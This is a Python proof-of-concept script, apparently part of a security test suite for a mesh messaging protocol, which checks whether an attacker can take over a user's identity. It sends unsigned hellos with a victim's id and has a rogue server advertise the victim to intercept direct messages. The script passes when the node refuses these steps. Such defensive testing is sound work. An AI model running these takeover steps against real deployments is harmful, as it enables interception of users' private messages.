"""Attack: take over a user id through another node of the mesh (issue #15 weaknesses 1, 2).

Needs two linked nodes: the victim's home (`--peer-url`, node B) and the node attacked
(`--url`, node A). The victim says a signed hello at B. Then:

1. at A, an unsigned hello with the victim's id and public key (known from /list);
2. the victim leaves B; at A, the same unsigned hello again;
3. the attacker joins A as a server and advertises the victim as its own user, with
   the victim's real key, while the victim is away; a user of A writes to the victim.

Blocked when A refuses both hellos, the joined server never receives the victim's mail,
and the victim, back at B, gets a DM from A's user.

    python poc/identity_takeover.py --url ws://127.0.0.1:8765 --peer-url ws://127.0.0.1:8766
"""

from __future__ import annotations

import argparse
import asyncio

from _common import Keys, Peer, Verdict, main, now_ms, show, user
from socp.protocol import frames


def options(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--peer-url", required=True, help="ws://HOST:PORT of a node linked to --url: the victim's home")
    parser.add_argument("--settle", type=float, default=1.5, help="seconds for presence to cross the link")


async def _hello_refusal(url: str, keys: Keys, victim: Peer, timeout: float) -> tuple[str, str]:
    attacker = await Peer(url, keys.take(), peer_id=victim.peer_id, timeout=timeout).open()
    await attacker.hello(signed=False, pubkey=victim.pubkey)
    code, detail = await attacker.error(timeout=timeout)
    await attacker.close()
    return code, detail


async def run(args: argparse.Namespace, verdict: Verdict) -> None:
    keys = Keys(args.keys)
    victim = await user(args.peer_url, keys, args.timeout)
    friend = await user(args.url, keys, args.timeout)
    await asyncio.sleep(args.settle)

    verdict.tried("an unsigned hello at node A for a victim online at node B, with its public key")
    code, detail = await _hello_refusal(args.url, keys, victim, args.timeout)
    verdict.check(code in ("NAME_IN_USE", "INVALID_SIG"), f"answer {code or 'none'} {show(detail)}")

    await victim.close()
    await asyncio.sleep(args.settle)
    verdict.tried("the victim left B; an unsigned hello at A for it again")
    code, detail = await _hello_refusal(args.url, keys, victim, args.timeout)
    verdict.check(code in ("INVALID_SIG", "NAME_IN_USE"), f"answer {code or 'none'} {show(detail)}")

    verdict.tried("a server joins A and advertises the absent victim as its own user, with its real key")
    rogue = await Peer(args.url, keys.take(), timeout=args.timeout).open()
    await rogue.join_as_server()
    await rogue.send(rogue.signed(frames.user_advertise(rogue.peer_id, now_ms(), victim.peer_id,
                                                        {"pubkey": victim.pubkey})))
    await asyncio.sleep(args.settle)
    await friend.send(friend.dm(victim.peer_id, victim.pubkey, b"for the victim only"))
    stolen = not await rogue.nothing_of("SERVER_DELIVER", wait=args.settle * 2)
    verdict.check(not stolen, "the joined server received the victim's mail" if stolen
                  else "the joined server received none of the victim's mail")

    verdict.tried("the victim comes back to B; A's user writes to it")
    back = await Peer(args.peer_url, victim.key, peer_id=victim.peer_id, timeout=args.timeout).open()
    await back.hello()
    await back.list_users()
    await asyncio.sleep(args.settle)
    await friend.send(friend.dm(victim.peer_id, victim.pubkey, b"welcome back"))
    try:
        deliver = await back.receive("USER_DELIVER", timeout=args.timeout)
        verdict.check(back.open_dm(deliver) == b"welcome back", "the DM reached the victim at its home")
    except TimeoutError:
        verdict.check(False, "the victim, back home, never got A's DM")


if __name__ == "__main__":
    raise SystemExit(main(run, "identity takeover through a second node", options))
